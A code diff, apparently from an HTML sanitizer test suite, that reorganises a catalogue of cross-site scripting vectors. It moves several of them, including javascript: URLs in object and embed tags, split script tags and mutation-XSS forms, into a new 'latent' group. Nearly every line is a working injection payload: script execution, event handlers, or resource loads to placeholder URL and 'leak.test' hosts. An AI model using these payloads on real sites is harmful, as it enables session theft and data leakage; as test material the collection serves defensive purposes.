@@ -55,12 +55,10 @@ _SCRIPTS = {
     "script": "<script>@JS@;alert(1)</script>",
     "script-mixed-case": "<ScRiPt>@JS@</sCrIpT>",
     "script-with-slash": "<script/x>@JS@</script/y>",
-    "script-unclosed": "<p>x<script>@JS@",
     "script-remote": "<script src='@URL@'></script>",
     "script-remote-by-name": "<script src='@HOST@'></script>",
     "script-from-data": "<script src=\"data:text/javascript,@JS@\"></script>",
     "script-module": "<script type=module>@JS@</script>",
-    "script-halves": "<scr<script></script>ipt>@JS@</script>",
     "script-in-table": "<table><tr><script>@JS@</script><td>x</table>",
     "script-in-svg": "<svg><script>@JS@</script></svg>",
     "script-in-svg-by-href": "<svg><script href='@URL@'></script></svg>",
@@ -70,10 +68,6 @@ _SCRIPTS = {
     "script-after-processing-instruction": "<?x y='><script>@JS@</script>'>",
     "script-after-bogus-tag": "</ x='><script>@JS@</script>'>",
     "script-in-conditional": "<![if !mso]><script>@JS@</script><![endif]>",
-    "script-by-speculation": (
-        '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["@URL@"],'
-        '"eagerness":"immediate"}]}</script>'
-    ),
 }
 
 _HANDLERS = {
@@ -97,7 +91,6 @@ _HANDLERS = {
     "svg-set-onbegin": "<svg><set onbegin=\"@JS@\" attributeName=x></svg>",
     "svg-image-onerror": "<svg><image href=x: onerror=\"@JS@\"></svg>",
     "iframe-onload": "<iframe onload=\"@JS@\"></iframe>",
-    "object-onerror": "<object data=x: onerror=\"@JS@\"></object>",
     "embed-onload": "<embed src='data:text/html,x' onload=\"@JS@\">",
     "style-onload": "<style onload=\"@JS@\"></style>",
     "link-onerror": "<link rel=stylesheet href=x: onerror=\"@JS@\">",
@@ -106,7 +99,6 @@ _HANDLERS = {
     "audio-onerror": "<audio src=x: onerror=\"@JS@\"></audio>",
     "video-onloadstart": "<video src=x: onloadstart=\"@JS@\"></video>",
     "details-ontoggle": "<details open ontoggle=\"@JS@\">x</details>",
-    "marquee-onstart": "<marquee onstart=\"@JS@\">x</marquee>",
     "input-autofocus": "<input autofocus onfocus=\"@JS@\">",
     "textarea-autofocus": "<textarea autofocus onfocus=\"@JS@\"></textarea>",
     "select-autofocus": "<select autofocus onfocus=\"@JS@\"></select>",
@@ -126,8 +118,6 @@ _HANDLERS = {
     "onanimationend=\"@JS@\">x",
     "animation-prefixed": "<style>@keyframes k{}</style><p style='animation:k 1s' "
     "onwebkitanimationstart=\"@JS@\">x",
-    "transition-runs": "<style>p{color:red;transition:color 1ms}"
-    "@starting-style{p{color:blue}}</style><p ontransitionrun=\"@JS@\">x",
     "content-visibility": "<p style='content-visibility:auto' "
     "oncontentvisibilityautostatechange=\"@JS@\">x",
     "shadow-root": "<div><template shadowrootmode=open><img src=x: onerror=\"@JS@\"></template>"
@@ -142,10 +132,8 @@ _FRAMES = {
     "iframe-data": "<iframe src=\"data:text/html,<script>console.log('pwned @N@')</script>\">",
     "iframe-remote": "<iframe src='@URL@'></iframe>",
     "iframe-lookalike": "<iframe/src='@URL@'><iframe src='@TLS@'>",
-    "object-javascript": "<object data=\"javascript:@JS@\"></object>",
     "object-data": "<object data=\"data:text/html,<script>console.log('pwned @N@')</script>\">",
     "object-remote": "<object data='@URL@'></object>",
-    "embed-javascript": "<embed src=\"javascript:@JS@\">",
     "embed-remote": "<embed src='@URL@'>",
     "frameset": "<frameset><frame src='@URL@'></frameset>",
     "form-submitted-by-image": "<form action='@URL@'><input name=q><img src=x: "
@@ -154,7 +142,6 @@ _FRAMES = {
     "meta-refresh-upper-case": "<META HTTP-EQUIV='REFRESH' CONTENT='0; URL=\"@URL@\"'>",
     "meta-refresh-data": "<meta http-equiv=refresh content=\"0;url=data:text/html,x\">"
     "<meta http-equiv=refresh content='0 @URL@'>",
-    "meta-refresh-javascript": "<meta http-equiv=refresh content=\"0;url=javascript:@JS@\">",
 }
 
 _LOADS = {
@@ -184,8 +171,6 @@ _LOADS = {
     "link-icon": "<link rel=icon href='@URL@'><img src='@URL@'>",
     "link-preload": "<link rel=preload as=image href='@URL@'>",
     "link-prefetch": "<link rel=prefetch href='@URL@'>",
-    "link-preconnect": "<link rel=preconnect href='@URL@'>",
-    "link-preconnect-by-name": "<link rel=preconnect href='@HOST@'>",
     "link-dns-prefetch": "<link rel=dns-prefetch href='//@N@.leak.test'><img src='@HOST@'>",
     "link-modulepreload": "<link rel=modulepreload href='@URL@'>",
     "link-in-svg": "<svg><foreignObject><link rel=stylesheet href='@URL@'></svg>",
@@ -211,8 +196,8 @@ _STYLES = {
     "style-font": "<style>@font-face{font-family:f;src:url(@URL@)}p{font-family:f}</style><p>x",
     "style-attribute-selector": "<style>a[href^=http]{background:url(@URL@)}</style>"
     "<a href='http://x.test'>x</a>",
-    "style-over-the-shell": "<style>body{background:url(@URL@)}:root{display:none}</style>",
-    "style-in-svg": "<svg><style>rect{fill:red}@import '@URL@';</style><rect/></svg>",
+    "style-over-the-shell": "<style>:root{background:url(@URL@);color:#fff}</style>",
+    "style-in-svg": "<svg><style>@import '@URL@';rect{fill:red}</style><rect/></svg>",
     "style-variable": "<style>:root{--u:url(@URL@)}p{background:var(--u)}</style><p>x",
     "style-property": "<style>@property --u{syntax:'<image>';inherits:false;"
     "initial-value:url(@URL@)}p{background:var(--u)}</style><p style='background:url(@URL@)'>x",
@@ -238,7 +223,6 @@ _STYLES = {
     "inline-cross-fade": "<p style='background:-webkit-cross-fade(url(@URL@),url(@URL@),50%)'>x",
     "inline-shape": "<p style='float:left;shape-outside:url(@URL@)'>x"
     "<p style='background:url(@URL@)'>",
-    "inline-filter": "<p style='filter:url(@URL@#f)'>x",
     "inline-variable": "<p style='--u:url(@URL@);background:var(--u)'>x",
     "font-tag-breaks-out": "<font face=\"a;background:url(@URL@)\" "
     "style=\"font-family:'x';background:url('@URL@')\">x</font>",
@@ -249,8 +233,6 @@ _MUTATIONS = {
     "mxss-math-style": "<math><mtext><table><mglyph><style><!--</style>"
     "<img title=\"--&gt;&lt;img src=x: onerror=@JS@&gt;\"><img src=x: onerror=\"@JS@\">",
     "mxss-svg-style": "<svg></p><style><a id=\"</style><img src=x: onerror='@JS@'>\">",
-    "mxss-form": "<form><math><mtext></form><form><mglyph><style></math>"
-    "<img src=x: onerror=\"@JS@\">",
     "mxss-annotation": "<math><annotation-xml encoding='text/html'><style>"
     "<img src=x: onerror=\"@JS@\"></style></annotation-xml></math><img src=x: onerror=\"@JS@\">",
     "mxss-svg-title": "<svg><title><style></title><img src=x: onerror=\"@JS@\"></style></svg>"
@@ -268,8 +250,6 @@ _MUTATIONS = {
     "mxss-style": "<style><p title=\"</style><img src=x: onerror='@JS@'>\">",
     "mxss-iframe": "<iframe><p title=\"</iframe><img src=x: onerror='@JS@'>\">",
     "mxss-script": "<script><!--<script></script>--></script><img src=x: onerror=\"@JS@\">",
-    "mxss-select": "<select><template><style><!--</style><a rel=\"--></style></template>"
-    "</select><img src=x: onerror='@JS@'>\"></select><img src=x: onerror=\"@JS@\">",
     "mxss-cdata-in-svg": "<svg><![CDATA[><img src=x: onerror=\"@JS@\">]]></svg>"
     "<img src=x: onerror=\"@JS@\">",
     "mxss-cdata-in-html": "<![CDATA[><img src=x: onerror=\"@JS@\">]]>",
@@ -289,6 +269,29 @@ _MUTATIONS = {
     "null-before-tag": "\0<\0img src=x><img\0 src=x: onerror=x><img src=x: onerror=\"@JS@\">",
     "entities-without-end": "<img src=x: onerror=&#x74op.pwned='@N@'>",
     "document-within": "</div></body></html><script>@JS@</script><div class=html>",
+}
+
+_ELSEWHERE = {
+    "script-unclosed": "<p>x<script>@JS@",
+    "script-halves": "<scr<script></script>ipt>@JS@</script>",
+    "script-by-speculation": (
+        '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["@URL@"],'
+        '"eagerness":"immediate"}]}</script>'
+    ),
+    "object-onerror": "<object data=x: onerror=\"@JS@\"></object>",
+    "marquee-onstart": "<marquee onstart=\"@JS@\">x</marquee>",
+    "transition-runs": "<style>p{color:red;transition:color 1ms}"
+    "@starting-style{p{color:blue}}</style><p ontransitionrun=\"@JS@\">x",
+    "object-javascript": "<object data=\"javascript:@JS@\"></object>",
+    "embed-javascript": "<embed src=\"javascript:@JS@\">",
+    "meta-refresh-javascript": "<meta http-equiv=refresh content=\"0;url=javascript:@JS@\">",
+    "link-preconnect": "<link rel=preconnect href='@URL@'>",
+    "link-preconnect-by-name": "<link rel=preconnect href='@HOST@'>",
+    "inline-filter": "<p style='filter:url(@URL@#f)'>x",
+    "mxss-form": "<form><math><mtext></form><form><mglyph><style></math>"
+    "<img src=x: onerror=\"@JS@\">",
+    "mxss-select": "<select><template><style><!--</style><a rel=\"--></style></template>"
+    "</select><img src=x: onerror='@JS@'>\"></select><img src=x: onerror=\"@JS@\">",
 }
 
 _NAMES = {
@@ -338,7 +341,7 @@ ACTIVE = [
 """What runs or loads in today's Chromium when nothing is in its way."""
 
 LATENT = [
-    *(Vector(name, html) for name, html in _NAMES.items()),
+    *(Vector(name, html) for part in (_ELSEWHERE, _NAMES) for name, html in part.items()),
     Vector("charset-utf-7", "<script>@JS@</script>", "utf-7"),
     Vector("charset-utf-7-within", "<meta charset=utf-7>+ADw-script+AD4-@JS@+ADw-/script+AD4-"),
     Vector("style-expression", "<p style='width:expression(@JS@)'>x"),
